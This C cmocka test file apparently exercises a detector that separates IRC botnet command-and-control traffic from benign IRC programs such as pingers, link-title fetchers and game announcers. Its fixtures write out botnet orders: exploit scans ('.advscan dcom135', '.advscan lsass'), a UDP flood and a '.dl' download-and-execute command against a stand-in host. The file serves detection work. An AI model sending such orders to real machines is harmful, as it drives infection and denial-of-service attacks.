/* SPDX-License-Identifier: GPL-3.0-or-later */
/* irc_control: programs that serve people on IRC, beside bots that look most like them: what is told to them, what they
 * answer, what they fetch. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#include "detect/detector.h"
#include "talk.h"

static void hear(struct talk *t, const char *from, const char *text)
{
        char line[400];

        snprintf(line, sizeof(line), ":%s!u@h PRIVMSG #x :%s", from, text);
        talk_in(t, line);
        talk_wait(t, 800);
}

static void say(struct talk *t, const char *text)
{
        char line[400];

        snprintf(line, sizeof(line), "PRIVMSG #x :%s", text);
        talk_out(t, line);
        talk_wait(t, 20000);
}

/* It names what it was asked about, in brackets too, whoever asks. */
static void test_ping(void **state)
{
        static const char *const people[] = {"anna", "bert", "carl", "dora"};
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "netbot", "#x key");
        for (unsigned i = 0; i < 40; i++) {
                char order[100], answer[100];
                char addr[ADDR_TEXT_MAX];

                snprintf(addr, sizeof(addr), "198.51.100.%u", i + 1);
                snprintf(order, sizeof(order), i % 2 ? "!ping -c 5 %s" : "!port %s 8080", addr);
                snprintf(answer, sizeof(answer), "[NET]: %s answers, 5 of 5", addr);
                hear(&t, people[i % 4], order);
                talk_answered(&t, addr, 8080);
                say(&t, answer);
        }
        assert_null(talk_kind(&t, "irc_control.obeyed"));
        assert_true(talk_level(&t, t.host, NULL) < LEVEL_SUSPECT);
        talk_end(&t);
}

/* Who answers three different orders of one master, and nobody else, serves him; who answers everybody helps. */
static void test_master(void **state)
{
        static const char *const orders[] = {".advscan dcom135 100 5 0 -r", ".advscan lsass 100 5 0 -r",
                                             ".udp 198.51.100.4 10000 1024 10"};
        static const char *const others[] = {"anna", "bert", "carl"};

        (void) state;
        for (int helper = 0; helper < 2; helper++) {
                struct talk t;

                talk_begin(&t);
                talk_login(&t, "stella", "#x");
                for (unsigned i = 0; i < 3; i++) {
                        assert_null(talk_kind(&t, "irc_control.obeyed"));
                        hear(&t, helper ? others[i] : "boss", orders[i]);
                        say(&t, "[SCAN]: started 100 threads");
                }
                assert_int_equal(talk_kind(&t, "irc_control.obeyed") != NULL, !helper);
                assert_int_equal(talk_level(&t, t.host, NULL) == LEVEL_BOT, !helper);
                talk_end(&t);
        }
}

/* With a machine's name the first answer is enough; unless the same was announced all day. */
static void test_announcer_hears_an_order(void **state)
{
        (void) state;
        for (int habit = 0; habit < 2; habit++) {
                struct talk t;

                talk_begin(&t);
                talk_login(&t, "[x]IqRkpiH", "#x");
                if (habit)
                        say(&t, "[BUILD]: 811 passed");
                talk_wait(&t, 40000);
                hear(&t, "boss", ".advscan dcom135 100 5 0 -r");
                say(&t, "[BUILD]: 812 passed");
                assert_int_equal(talk_kind(&t, "irc_control.obeyed") != NULL, !habit);
                talk_end(&t);
        }
}

/* A program that reads out the titles of all links also fetches one in a pasted order; a bot fetches no other. */
static void test_titles(void **state)
{
        (void) state;
        for (int titles = 0; titles < 2; titles++) {
                struct talk t;

                talk_begin(&t);
                talk_login(&t, "titler", "#x");
                hear(&t, "anna", "have you seen http://news.example/today.html yet?");
                if (titles)
                        talk_fetch(&t, "198.51.100.71", "news.example", "/today.html");
                talk_wait(&t, 100000);
                hear(&t, "carl", ".dl http://files.example/a/x.exe y.exe 1");
                talk_fetch(&t, "198.51.100.9", "files.example", "/a/x.exe");
                assert_int_equal(talk_kind(&t, "irc_control.executed") != NULL, !titles);
                assert_int_equal(talk_level(&t, t.host, NULL) >= LEVEL_SUSPECT, !titles);
                talk_end(&t);
        }
}

/* A URL that is ordered in a way that is not understood is no link in people's talk. */
static void test_no_title(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "titler", "#x");
        hear(&t, "boss", ".dl http://files.example/a/first");
        talk_fetch(&t, "198.51.100.9", "files.example", "/a/first");
        hear(&t, "boss", ".dl http://files.example/a/x.exe y.exe 1");
        talk_fetch(&t, "198.51.100.9", "files.example", "/a/x.exe");
        assert_non_null(talk_kind(&t, "irc_control.executed"));
        talk_end(&t);
}

/* A gamer who only listens, and joins the server that is announced. */
static void test_gamer(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        t.port = 7777;
        talk_login(&t, "Guest48213", "#pickup key");
        for (unsigned i = 0; i < 20; i++) {
                hear(&t, "GameBot", "!addserver 198.51.100.50:27015 5on5 24/7 900 EU pov");
                talk_answered(&t, "198.51.100.50", 27015);
                hear(&t, "carl", "!server 198.51.100.50:27015 1 2");
                talk_wait(&t, 3600000);
        }
        assert_true(talk_level(&t, t.host, NULL) < LEVEL_SUSPECT);
        talk_end(&t);
}

/* Two announcers happen to speak after what an administrator told a helper; two bots answer alike. */
static void test_administrator(void **state)
{
        struct talk t;

        (void) state;
        talk_begin(&t);
        talk_login(&t, "admin", "#x");
        say(&t, "!deploy -f web1.example 443");
        t.now -= 15 * NSEC_PER_SEC;
        hear(&t, "ci", "[CI]: Build 812 passed");
        hear(&t, "monitor", "[LOAD]: web1 3.2");
        assert_null(talk_kind(&t, "irc_control.commanding"));
        hear(&t, "ci2", "[CI]: Build 813 passed");
        assert_non_null(talk_kind(&t, "irc_control.commanding"));
        talk_end(&t);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_ping),          cmocka_unit_test(test_master),
                cmocka_unit_test(test_titles),        cmocka_unit_test(test_announcer_hears_an_order),
                cmocka_unit_test(test_gamer),         cmocka_unit_test(test_no_title),
                cmocka_unit_test(test_administrator),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
